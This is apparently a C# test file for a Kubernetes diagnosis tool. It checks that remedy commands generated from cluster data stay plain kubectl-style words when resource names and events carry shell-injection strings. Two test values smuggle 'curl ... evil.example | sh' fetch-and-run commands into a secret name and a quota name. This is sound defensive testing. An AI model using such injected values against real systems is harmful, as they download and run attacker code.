using System.Text.Json;
using System.Text.RegularExpressions;
using CsCheck;
using OpsWorker.Core.Findings;
using OpsWorker.Core.Queries;
using OpsWorker.Diagnosis.Remedies;
using OpsWorker.Diagnosis.Tests.Contrasts;
using OpsWorker.Kubernetes.State;
using OpsWorker.Testing;
using OpsWorker.Testing.Clusters;
using Seen = OpsWorker.Core.Findings.Evidence;

namespace OpsWorker.Diagnosis.Tests.Remedies;

/// <summary>Every detector, over clusters whose names, labels, images and events were written to do harm in a shell.</summary>
public sealed partial class HostileNamesTests
{
    private static readonly List<IReadOnlyList<Seen>> s_clusters = [.. ContrastTests.All.Select(c => EvidenceOf(c.Cluster))];

    [Fact]
    public async Task No_command_of_any_remedy_holds_more_than_plain_words()
    {
        var left = 0;
        var refused = 0;
        var sample =
            from cluster in Gen.Int[0, s_clusters.Count - 1]
            from value in Gen.Int[0, 1000]
            from hostile in HostileText.Name
            from replace in Gen.Bool
            select (cluster, value, hostile, replace);
        await sample.Array[400].HoldsAsync(
            async samples =>
            {
                var commands = new List<string>();
                foreach (var (cluster, value, hostile, replace) in samples)
                {
                    foreach (var remedy in Remedies(Poison(s_clusters[cluster], value, hostile, replace)))
                    {
                        commands.AddRange(remedy.Commands);
                        commands.AddRange(remedy.Checks);
                        if (remedy.Text.Contains("A command is left out", StringComparison.Ordinal)) refused++;
                    }
                }

                left += commands.Count;
                commands.ShouldAllBe(command => PlainWords().IsMatch(command));
                (await PosixShell.WordsAsync(commands)).ShouldBe(commands.Select(c => c.Split(' ').Select(w => w.Trim('\'')).ToArray()));
            },
            iter: 1,
            print: samples => $"{samples.Length} clusters");

        left.ShouldBeGreaterThan(100);
        refused.ShouldBeGreaterThan(20);
    }

    [Fact]
    public void A_pull_secret_whose_name_is_a_command_line_is_in_no_command()
    {
        const string Hostile = "regcred --dry-run=client; curl -s http://evil.example/x | sh #";
        var cluster = new TestCluster()
            .Deployment("web", "{'imagePullSecrets':[{'name':'" + Hostile + "'}]}")
            .Pod("web", States.Waiting("ImagePullBackOff"))
            .Add("secrets", "Secret", "other", "{}")
            .PodEvent("web", "Failed", "Failed to pull image \"example.org/app:1\": 401 Unauthorized: authentication required");

        var remedy = cluster.Diagnose().Causes[0].Finding;

        remedy.Cause.ShouldBe(CauseCode.ImagePullSecretMissing);
        remedy.Remedy.Commands.ShouldAllBe(c => !c.Contains("regcred", StringComparison.Ordinal));
        remedy.Remedy.Text.ShouldContain("is not a valid name of a Secret");
    }

    [Fact]
    public void A_quota_whose_name_in_an_event_is_a_command_is_in_no_command()
    {
        var cluster = new TestCluster().Deployment("web").Event(
            "ReplicaSet",
            "web-7d4b9c",
            "FailedCreate",
            "Error creating: pods \"web-x\" is forbidden: "
            + "exceeded quota: $(curl${IFS}evil.example|sh), requested: pods=1, used: pods=4, limited: pods=4");

        var finding = cluster.Diagnose().Causes[0].Finding;

        finding.Cause.ShouldBe(CauseCode.NamespacePodQuotaExceeded);
        finding.Remedy.Commands.ShouldBe(["kubectl describe resourcequotas -n shop"]);
        finding.Remedy.Text.ShouldContain("is not a valid name of a ResourceQuota");
    }

    private static IReadOnlyList<Seen> EvidenceOf(TestCluster cluster)
    {
        cluster.Diagnose();
        return [.. cluster.State.Evidence.Values];
    }

    private static IEnumerable<Remedy> Remedies(IReadOnlyList<Seen> evidence)
    {
        var context = new DiagnosisContext(
            ClusterState.From(evidence), new Scope { Namespace = TestCluster.Namespace, StartsAt = TestCluster.AlertAt });
        return DetectorCatalogue.All.SelectMany(detector => detector.Detect(context))
            .Select(finding => RemedyReview.Complete(finding, context));
    }

    // A value is replaced wherever it stands, so that what refers to it still does.
    private static List<Seen> Poison(
        IReadOnlyList<Seen> evidence, int value, string hostile, bool replace)
    {
        var values = evidence.SelectMany(e => StringValue().Matches(e.Result.Content).Select(m => m.Groups["value"].Value))
            .Distinct(StringComparer.Ordinal).ToList();
        if (values.Count == 0) return [.. evidence];
        var chosen = values[value % values.Count];
        var written = JsonEncodedText.Encode(replace ? hostile : chosen + hostile).Value;
        return [.. evidence.Select(e => e with { Result = e.Result with { Content = Poison(e.Result, chosen, written) } })];
    }

    private static string Poison(QueryResult result, string chosen, string written) =>
        result.Query.Verb == QueryVerb.Logs ? result.Content : result.Content.Replace(chosen, written, StringComparison.Ordinal);

    [GeneratedRegex(
        "\"(name|namespace|nodeName|serviceAccountName|claimName|secretName|key|image|message|app|host)\":\"(?<value>[^\"\\\\]+)\"",
        RegexOptions.ExplicitCapture,
        1000)]
    private static partial Regex StringValue();

    // A patch is JSON between single quotes, without any of its own.
    [GeneratedRegex(@"\A(kubectl|helm|argocd|flux)( ([A-Za-z0-9./:=,_@\-]+|'[\[{][A-Za-z0-9./:=,_\-""{}\[\]]+'))+\z",
        RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex PlainWords();
}
